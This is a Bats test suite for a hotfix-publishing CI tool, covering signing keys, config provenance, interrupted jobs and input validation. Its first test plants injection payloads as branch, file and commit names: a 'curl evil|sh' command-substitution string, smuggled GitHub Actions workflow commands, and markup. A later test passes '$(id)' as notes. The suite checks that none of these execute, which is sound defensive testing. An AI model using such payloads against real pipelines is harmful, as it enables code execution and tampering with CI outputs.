#!/usr/bin/env bats
# hotfix ci and what a job is given: strangers' names, settings, keys, parameters, a store that refuses, a build that fails.
bats_require_minimum_version 1.5.0
load common
load ci
load builders

setup() { new_ci_team; }

@test "a stranger's names and words are data: nothing runs, nothing is a command, in the log, the outputs and the summary" {
    hostile='";curl${IFS}evil|sh;$(touch${IFS}pwned)`touch${IFS}pwned2`'
    # A colon cannot be in a name of a patch; what is left out is told as well.
    mkdir -p '::set-output name=published::true' 'HotPath/%0A%3A%3Aset-output name=published%3A%3Atrue' 'HotPath/$(touch pwned3)'
    echo x >'::set-output name=published::true/f'
    echo x >'HotPath/%0A%3A%3Aset-output name=published%3A%3Atrue/f'
    echo x >'HotPath/$(touch pwned3)/##[set-env name=PATH]x'
    echo x >'::add-mask::e'
    echo x >'HotPath/%3A%3Aadd-mask%3A%3Ae'
    echo x >'HotPath/| b `c` <img src=x> [l](u).txt'
    git add -A
    git commit -qm '::set-output name=published::true
::add-mask::e

Hotfix-Notes: $(touch pwned4) ::error::boo'
    git push -q origin "HEAD:refs/heads/x$hostile"
    git push -q origin "HEAD:refs/heads/hotfix/1.0.0"
    checkout "x$hostile"
    head_ref="x$hostile" event=pull_request ref=refs/pull/3/merge base_ref=hotfix/1.0.0 again "x$hostile"
    echo "$output"
    [ "$status" = 0 ]
    says "would be released: 4 files" "$output"
    says "2 changed files are not included: ::add-mask::e, ::set-output name=published::true/f" "$output"
    [ "$(output_of published)" = false ]
    [ "$(wc -l <"$BATS_TEST_TMPDIR/out/output")" = 6 ]
    [[ $(summary) != *"<img"* && $(summary) != *'[l](u)'* && $(summary) != *'`c`'* ]]
    # And when it is released.
    ci hotfix/1.0.0
    [ "$status" = 0 ]
    [ "$(annotations "$output")" = 0 ]
    # A newline cannot be in a file's name in a zip: refused, escaped.
    printf x >"HotPath/$(printf 'n\n::error::boo')"
    git add -A && git commit -qm newline
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    one_error 'HotPath/n\x0a::error::boo'
    [ -z "$(find "$BATS_TEST_TMPDIR" -name 'pwned*')" ]
}

@test "hotfix.ini comes from the default branch, never from what was pushed" {
    fix two
    sed -i "s#^url = .*#url = file://$BATS_TEST_TMPDIR/theirs#; s/^id = .*/id = com.example.evil/" hotfix.ini
    echo "not a key" >hotfix.pub.pem
    mkdir "$BATS_TEST_TMPDIR/theirs"
    git commit -qam "our own settings"
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    [ "$status" = 0 ]
    [ -e "$store/$app/production/manifest.json" ]
    [ -z "$(ls "$BATS_TEST_TMPDIR/theirs")" ]
    # Another protected branch may be named, and a wrong file there is told by its name.
    git checkout -q main
    sed -i 's/^id = .*/id = no way/' hotfix.ini
    git commit -qam wrong
    pushed settings
    HOTFIX_CONFIG_REF=settings again hotfix/1.0.0
    [ "$status" = 2 ]
    says "hotfix.ini:2:" "$output"
    says "file=hotfix.ini,line=2" "$output"
    HOTFIX_CONFIG_REF=nowhere again hotfix/1.0.0
    one_error "cannot fetch refs/heads/nowhere"
    HOTFIX_CONFIG=../hotfix.ini again hotfix/1.0.0
    one_error "without '..'"
}

@test "the signing key: missing, empty, base64, another, with CRLF, in a file" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    key=$HOTFIX_SIGNING_KEY
    unset HOTFIX_SIGNING_KEY
    again hotfix/1.0.0
    one_error "the environment variable HOTFIX_SIGNING_KEY is not set"
    export HOTFIX_SIGNING_KEY=
    again hotfix/1.0.0
    one_error "the environment variable HOTFIX_SIGNING_KEY is empty"
    HOTFIX_SIGNING_KEY=$(base64 -w0 <<<"$key")
    again hotfix/1.0.0
    one_error "base64"
    [[ $output != *"${HOTFIX_SIGNING_KEY:40:20}"* ]]
    HOTFIX_SIGNING_KEY=$(openssl genpkey -algorithm ed25519)
    again hotfix/1.0.0
    one_error "which is not among [trust] keys"
    [[ $output != *"$(sed -n 2p <<<"$HOTFIX_SIGNING_KEY")"* ]]
    HOTFIX_SIGNING_KEY=/run/secrets/signing.pem
    again hotfix/1.0.0
    one_error "holds no PEM private key"
    [ ! -e "$store/$app" ]
    unset HOTFIX_SIGNING_KEY
    HOTFIX_SIGNING_KEY_FILE=$BATS_TEST_TMPDIR/signing.pem again hotfix/1.0.0
    [ "$status" = 0 ]
    rm -rf "${store:?}/$app"
    HOTFIX_SIGNING_KEY=${key//$'\n'/$'\r\n'}$'\r\n' again hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
}

@test "a store that is away, or refuses: one error, and nothing half published" {
    fix two
    pushed hotfix/1.0.0
    mv "$store" "$store.away"
    ci hotfix/1.0.0
    one_error "$store"
    mv "$store.away" "$store"
    mkdir -p "$store/$app"
    echo x >"$store/$app/production"
    again hotfix/1.0.0
    one_error production
    [ -z "$(find "$store" -name manifest.json)" ]
    rm "$store/$app/production"
    again hotfix/1.0.0
    [ "$status" = 0 ]
}

@test "a job that is cancelled in the middle: the same run completes it, without a second number" {
    fix two
    pushed hotfix/1.0.0
    for n in 2 4 6 8 10 12; do
        rm -rf "${store:?}/$app"
        checkout hotfix/1.0.0
        run github hotfix/1.0.0 strace -f -qq -o /dev/null -e trace=fsync -e inject=fsync:signal=KILL:when="$n" "$bin/hotfix" ci
        if [ -e "$store/$app/production/manifest.json" ]; then "$bin/hotfix" verify -c "$job/hotfix.ini" >&2; fi
        again hotfix/1.0.0
        [ "$status" = 0 ]
        [ "$(value 'm["last"], m["serial"]')" = "(1, 1)" ]
        "$bin/hotfix" verify -c "$job/hotfix.ini" >&2
    done
}

@test "parameters: an input is stronger than a trailer, and a wrong one is refused" {
    fix two
    git commit -q --amend -m fix -m $'Hotfix-Rollout: 25%\nHotfix-Priority: idle'
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    HOTFIX_ROLLOUT=250% again hotfix/1.0.0
    one_error "rollout '250%25'"
    HOTFIX_ROLLOUT=5% HOTFIX_NOTES='$(id)' HOTFIX_TARGET='' HOTFIX_FORCE=false again hotfix/1.0.0
    [ "$status" = 0 ]
    [ "$(value '[m["releases"][0][k] for k in ("rollout", "priority", "notes")]')" = "[500, 'idle', '\$(id)']" ]
    # A branch whose name is no version.
    pushed hotfix/cart
    ci hotfix/cart
    [ "$status" = 0 ]
    says "names no version" "$output"
    HOTFIX_TARGET='>=1.0.0 <1.1.0' again hotfix/cart
    echo "$output"
    [ "$status" = 0 ]
    [ "$(output_of version)" = '>=1.0.0 <1.1.0' ]
}

@test "no base: one error that says what to do; HOTFIX_BASE is fetched too" {
    fix two
    first=$(git rev-parse HEAD)
    fix three
    pushed hotfix/3.0.0
    checkout hotfix/3.0.0 1
    again hotfix/3.0.0
    one_error "git tag v3.0.0"
    HOTFIX_BASE=$first again hotfix/3.0.0
    echo "$output"
    [ "$status" = 0 ]
    [ "$(value 'm["releases"][0]["source"]["base"]')" = "$first" ]
}

@test "a publishing job holds its build against the plan of the job before" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    HOTFIX_PLAN=true again hotfix/1.0.0
    [ "$status" = 0 ]
    [ ! -e "$store/$app" ]
    plan=$(output_of sha256)
    HOTFIX_EXPECT=production:${plan##*:} again hotfix/1.0.0
    [ "$status" = 0 ]
    rm -rf "${store:?}/$app"
    HOTFIX_EXPECT=production:${plan:11:60}0000 again hotfix/1.0.0
    one_error "not the one that was expected"
    [ ! -e "$store/$app" ]
}

@test "an expectation that is no plan's words, names another channel, lacks one, or is empty: refused before anything is built" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    HOTFIX_PLAN=true again hotfix/1.0.0
    plan=$(output_of sha256)
    sum=${plan#production:}
    for bad in "" " " "***" "$sum" "production=$sum" garbage "production:${sum:1}" "production:$sum," "production:$sum,production:$sum" missing; do
        HOTFIX_EXPECT=$bad again hotfix/1.0.0
        one_error "HOTFIX_EXPECT"
    done
    HOTFIX_EXPECT=none again hotfix/1.0.0
    one_error "does not name the channel production"
    HOTFIX_EXPECT="beta:$sum" again hotfix/1.0.0
    one_error "does not name the channel production"
    HOTFIX_EXPECT="$plan,beta:$sum" again hotfix/1.0.0
    one_error "names the channel 'beta'"
    HOTFIX_EXPECT=production:none again hotfix/1.0.0
    one_error "a patch that was not expected"
    HOTFIX_EXPECT=production:shipped again hotfix/1.0.0
    one_error "not the one that was expected"
    [ ! -e "$store/$app" ]
    HOTFIX_EXPECT=" $plan"$'\r' again hotfix/1.0.0
    [ "$status" = 0 ]
    rm -rf "${store:?}/$app"
    HOTFIX_EXPECT=any again hotfix/1.0.0
    [ "$status" = 0 ]
}

@test "a plan names each channel of the ref, and says none where there is nothing" {
    printf '[channel beta]\nrefs = refs/heads/hotfix/*\ninclude = Beta/**\n' >>hotfix.ini
    git commit -qam "two channels" && git push -q origin main
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    HOTFIX_PLAN=true again hotfix/1.0.0
    [ "$status" = 0 ]
    plan=$(output_of sha256)
    [[ $plan =~ ^production:[0-9a-f]{64},beta:none$ ]]
    HOTFIX_EXPECT=${plan%,*} again hotfix/1.0.0
    one_error "does not name the channel beta"
    HOTFIX_EXPECT=$plan again hotfix/1.0.0
    [ "$status" = 0 ]
    [ "$(output_of published)" = true ]
    HOTFIX_PLAN=true run_id=8 again hotfix/1.0.0
    [ "$(output_of sha256)" = production:none,beta:none ]
    # A ref that nothing is released from.
    ref=refs/heads/main HOTFIX_PLAN=true again main
    [ "$(output_of sha256)" = none ]
    ref=refs/heads/main HOTFIX_EXPECT=$plan again main
    one_error "which this ref is not released on"
    ref=refs/heads/main HOTFIX_EXPECT=none again main
    [ "$status" = 0 ]
    # Taken back: a release without a file is not nothing.
    git revert --no-edit HEAD >/dev/null
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    HOTFIX_PLAN=true run_id=9 again hotfix/1.0.0
    [ "$(output_of sha256)" = production:shipped,beta:none ]
    HOTFIX_EXPECT=production:none,beta:none run_id=9 again hotfix/1.0.0
    one_error "a patch that was not expected"
    HOTFIX_EXPECT=production:shipped,beta:none run_id=9 again hotfix/1.0.0
    [ "$status" = 0 ]
}

@test "yes and no are understood in any spelling, and anything else is refused" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    for word in 1 True TRUE on yes 'true '; do
        HOTFIX_PLAN=$word again hotfix/1.0.0
        [ "$status" = 0 ]
        says "would be released" "$output"
        HOTFIX_UNSIGNED=$word again hotfix/1.0.0
        [ "$status" = 0 ]
        says "hotfix sign" "$output"
        [ ! -e "$store/$app/production/manifest.json" ]
    done
    for name in PLAN UNSIGNED FORCE LIVE DELETED; do
        export "HOTFIX_$name=maybe"
        again hotfix/1.0.0
        unset "HOTFIX_$name"
        one_error "maybe'"
    done
    [ ! -e "$store/$app/production/manifest.json" ]
    HOTFIX_PLAN=off HOTFIX_UNSIGNED=0 HOTFIX_FORCE=' ' HOTFIX_LIVE=False again hotfix/1.0.0
    [ "$status" = 0 ]
    [ "$(output_of published)" = true ]
}

@test "a variable that is almost an input is refused with the right name; one that is not known is one warning" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    for pair in HOTFIX_ROLOUT=5%:HOTFIX_ROLLOUT hotfix_plan=true:HOTFIX_PLAN HOTFIX_UNSINGED=true:HOTFIX_UNSIGNED \
        HOTFIX_EXPECTED=x:HOTFIX_EXPECT HOTFX_LIVE=1:HOTFIX_LIVE HOTFIX_OVERS=27:HOTFIX_OVER; do
        run github hotfix/1.0.0 env "${pair%:*}" "$bin/hotfix" ci
        one_error "it is written ${pair#*:}"
    done
    [ ! -e "$store/$app" ]
    HOTFIX_SLACK_URL=https://example.com HOTFIX_TEAM=mobile HOTFIX_ROLOUT='' HOTFIX_RELEASED_PATCH=7 HOTFIX_TEST_X=1 again hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
    [ "$(annotations "$output")" = 1 ]
    says "HOTFIX_SLACK_URL" "$(grep '^::warning ' <<<"$output")"
    says "HOTFIX_TEAM" "$(grep '^::warning ' <<<"$output")"
    # What hotfix.ini names is known.
    git checkout -q main && sed -i 's/env:HOTFIX_SIGNING_KEY/env:HOTFIX_SIGNING_KEYS/' hotfix.ini && git commit -qam key && git push -q origin main
    run github hotfix/1.0.0 env -u HOTFIX_SIGNING_KEY HOTFIX_SIGNING_KEYS="$HOTFIX_SIGNING_KEY" "$bin/hotfix" ci
    echo "$output"
    [ "$status" = 0 ]
}

@test "a line that looks like a trailer and is none refuses the job; other commits that have one are a warning" {
    fix two
    git commit -q --amend -m fix -m "Hotfix-Rollout: 5%" -m "Closes #12"
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    one_error "write 'Hotfix-Rollout: 5%25'"
    [ ! -e "$store/$app" ]
    fix three
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    [ "$status" = 0 ]
    says "$(git rev-parse --short=12 HEAD^) 'Hotfix-Rollout: 5%25'" "$(grep '^::warning ' <<<"$output")"
}

@test "without a key in CI: a candidate, and the command that signs it" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    unset HOTFIX_SIGNING_KEY
    HOTFIX_UNSIGNED=true again hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
    id=$(output_of candidate)
    says "hotfix sign $id" "$output"
    says "hotfix sign $id" "$(summary)"
    [ "$(output_of published)" = false ]
    [ ! -e "$store/$app/production/manifest.json" ]
    # As docs/ci.md has it: a file, named to any command as it is to hotfix ci.
    run "$bin/hotfix" sign -c hotfix.ini "$id"
    [ "$status" = 2 ]
    says "HOTFIX_SIGNING_KEY is not set" "$output"
    HOTFIX_SIGNING_KEY_FILE=$BATS_TEST_TMPDIR/signing.pem run --separate-stderr "$bin/hotfix" sign -c hotfix.ini "$id"
    [ "$status" = 0 ]
    says "1 file, made" "$output"
    says "built again, same bytes" "$output"
    [ "$(value 'm["releases"][0]["source"]["ref"]')" = refs/heads/hotfix/1.0.0 ]
}

@test "where there is no CI: says so" {
    checkout main
    cd "$job"
    run "$bin/hotfix" ci
    [ "$status" = 2 ]
    says "this is no CI job" "$output"
    run env GITHUB_ACTIONS=true "$bin/hotfix" ci
    [ "$status" = 1 ]
    says "GITHUB_SERVER_URL is missing" "$output"
}

@test "a builder's parse error: an annotation at the file and line, and nothing is published" {
    tool=$(generator)
    mkdir Scripts.bundle
    echo 'struct CGPoint { double x; double y; };' >Scripts.bundle/Types
    oc Cart one >HotPath/Cart.m
    sed -i 's/^builder = .*/builder = ocrunner/; s#^include = .*#include = **/*.m#' hotfix.ini
    printf '[ocrunner]\ngenerator = %s\nrefs = Scripts.bundle\n' "$tool" >>hotfix.ini
    git add -A && git commit -qm "by OCRunner" && git tag -f v1.0.0 >/dev/null && git push -q -f origin HEAD:main v1.0.0
    printf '@implementation Cart\n- (void)pay\n{\n    @try { [self go]; }\n}\n@end\n' >HotPath/Cart.m
    git commit -qam broken
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    one_error "syntax error: @try"
    says "::error file=HotPath/Cart.m,line=4,title=hotfix::" "$output"
    says "::warning file=HotPath/Cart.m,line=4,title=hotfix::" "$output"
    [ ! -e "$store/$app" ]
    oc Cart two >HotPath/Cart.m
    git commit -qam mended
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
    says "patch 1 for 1.0.0 is released" "$output"
}
